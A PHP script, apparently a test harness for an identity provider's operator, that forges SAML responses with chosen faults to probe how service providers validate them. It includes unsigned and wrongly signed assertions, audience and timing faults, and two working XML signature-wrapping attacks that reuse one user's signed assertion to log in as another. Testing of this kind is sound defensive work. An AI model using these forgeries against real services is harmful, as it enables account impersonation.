<?php
// An answer of the identity provider as somebody writes it who wants to be taken for another.
//
//   php forge.php FAULT PRINCIPAL REQUEST SERVICE_PROVIDER CONSUMER
//
// Prints what a browser would send as SAMLResponse. With the fault `nothing` it is as good as the provider's own: what a
// service provider says to the others is then due to the fault alone.

require '/usr/share/simplesamlphp/lib/_autoload.php';

use RobRichards\XMLSecLibs\XMLSecurityDSig;
use RobRichards\XMLSecLibs\XMLSecurityKey;
use SAML2\Assertion;
use SAML2\Constants;
use SAML2\Response;
use SAML2\XML\saml\Issuer;
use SAML2\XML\saml\NameID;
use SAML2\XML\saml\SubjectConfirmation;
use SAML2\XML\saml\SubjectConfirmationData;

const PROVIDER = 'https://authentication.ubc.ca';
const KEYS = '/etc/simplesamlphp/keys';
const PRINCIPAL = 'urn:oid:1.3.6.1.4.1.5923.1.1.1.6';
const AFFILIATION = 'urn:oid:1.3.6.1.4.1.5923.1.1.1.9';
// Somebody who may come in, and whose signed words are put to another's use.
const HONEST = 'bob@ubc.ca';
const HOUR = 3600;

[, $fault, $principal, $request, $serviceProvider, $consumer] = $argv;

$forgers = [
    'nothing' => fn() => answer($principal),
    'signature' => fn() => answer($principal, ['signer' => strangersKey()]),
    'unsigned' => fn() => answer($principal, ['signer' => null]),
    'issuer' => fn() => answer($principal, ['issuer' => 'https://identity.other.example', 'signer' => strangersKey()]),
    'audience' => fn() => answer($principal, ['audience' => 'https://hub.other.example/shibboleth']),
    'expired' => fn() => answer($principal, ['until' => time() - HOUR]),
    'late' => fn() => answer($principal, ['issued' => time() - HOUR, 'until' => time() + HOUR]),
    'destination' => fn() => answer($principal, ['destination' => 'https://hub.other.example/Shibboleth.sso/SAML2/POST']),
    'recipient' => fn() => answer($principal, ['recipient' => 'https://hub.other.example/Shibboleth.sso/SAML2/POST']),
    'altered' => fn() => str_replace(HONEST, $principal, answer(HONEST)),
    'wrapped' => fn() => wrapped($principal, fn($document, $forged, $signed) => $document->documentElement->insertBefore($forged, $signed)),
    'wrapped-inside' => fn() => wrapped($principal, function ($document, $forged, $signed) {
        $document->documentElement->replaceChild($forged, $signed);
        $signature = $signed->getElementsByTagNameNS(XMLSecurityDSig::XMLDSIGNS, 'Signature')->item(0);
        $forged->insertBefore($signature, $forged->firstChild->nextSibling);
        $object = $signature->appendChild($document->createElementNS(XMLSecurityDSig::XMLDSIGNS, 'ds:Object'));
        $object->appendChild($signed);
    }),
];
if (!isset($forgers[$fault])) {
    fwrite(STDERR, "no fault `$fault`, only " . implode(', ', array_keys($forgers)) . "\n");
    exit(2);
}
echo base64_encode($forgers[$fault]());

// A signed answer for somebody; what differs from a good one stands in $different.
function answer(string $principal, array $different = []): string
{
    global $request, $serviceProvider, $consumer;
    $what = $different + [
        'issuer' => PROVIDER, 'signer' => providersKey(), 'audience' => $serviceProvider, 'issued' => time(),
        'until' => time() + 300, 'destination' => $consumer, 'recipient' => $consumer,
    ];
    $issuer = new Issuer();
    $issuer->setValue($what['issuer']);

    $subject = new NameID();
    $subject->setFormat(Constants::NAMEID_TRANSIENT);
    $subject->setValue('_' . bin2hex(random_bytes(16)));
    $confirmation = new SubjectConfirmationData();
    $confirmation->setRecipient($what['recipient']);
    $confirmation->setNotOnOrAfter($what['until']);
    $confirmation->setInResponseTo($request);
    $bearer = new SubjectConfirmation();
    $bearer->setMethod(Constants::CM_BEARER);
    $bearer->setSubjectConfirmationData($confirmation);

    $assertion = new Assertion();
    $assertion->setIssuer($issuer);
    $assertion->setIssueInstant($what['issued']);
    $assertion->setNameId($subject);
    $assertion->setSubjectConfirmation([$bearer]);
    $assertion->setNotBefore($what['until'] - 3 * HOUR);
    $assertion->setNotOnOrAfter($what['until']);
    $assertion->setValidAudiences([$what['audience']]);
    $assertion->setAuthnInstant($what['issued']);
    $assertion->setAuthnContextClassRef(Constants::AC_PASSWORD_PROTECTED_TRANSPORT);
    $assertion->setSessionIndex('_' . bin2hex(random_bytes(16)));
    $assertion->setAttributeNameFormat(Constants::NAMEFORMAT_URI);
    $assertion->setAttributes([PRINCIPAL => [$principal], AFFILIATION => ['student@ubc.ca']]);

    $response = new Response();
    $response->setIssuer($issuer);
    $response->setIssueInstant($what['issued']);
    $response->setInResponseTo($request);
    $response->setDestination($what['destination']);
    $response->setAssertions([$assertion]);
    if ($what['signer']) {
        [$key, $certificate] = $what['signer'];
        $assertion->setSignatureKey($key);
        $assertion->setCertificates([$certificate]);
    }
    $element = $response->toUnsignedXML();
    return $element->ownerDocument->saveXML($element);
}

// The signed assertion of somebody honest, and an unsigned one for another that borrows its signature.
function wrapped(string $principal, callable $place): string
{
    $document = new DOMDocument();
    $document->loadXML(answer(HONEST));
    $signed = $document->getElementsByTagNameNS(Constants::NS_SAML, 'Assertion')->item(0);
    $other = new DOMDocument();
    $other->loadXML(answer($principal, ['signer' => null]));
    $forged = $document->importNode($other->getElementsByTagNameNS(Constants::NS_SAML, 'Assertion')->item(0), true);
    $place($document, $forged, $signed);
    return $document->saveXML($document->documentElement);
}

function providersKey(): array
{
    return [signingKey(file_get_contents(KEYS . '/provider.key')), file_get_contents(KEYS . '/provider.crt')];
}

// A key that calls itself the provider's.
function strangersKey(): array
{
    $private = openssl_pkey_new(['private_key_bits' => 3072]);
    $request = openssl_csr_new(['commonName' => parse_url(PROVIDER, PHP_URL_HOST)], $private);
    openssl_x509_export(openssl_csr_sign($request, null, $private, 365), $certificate);
    openssl_pkey_export($private, $key);
    return [signingKey($key), $certificate];
}

function signingKey(string $pem): XMLSecurityKey
{
    $key = new XMLSecurityKey(XMLSecurityKey::RSA_SHA256, ['type' => 'private']);
    $key->loadKey($pem);
    return $key;
}
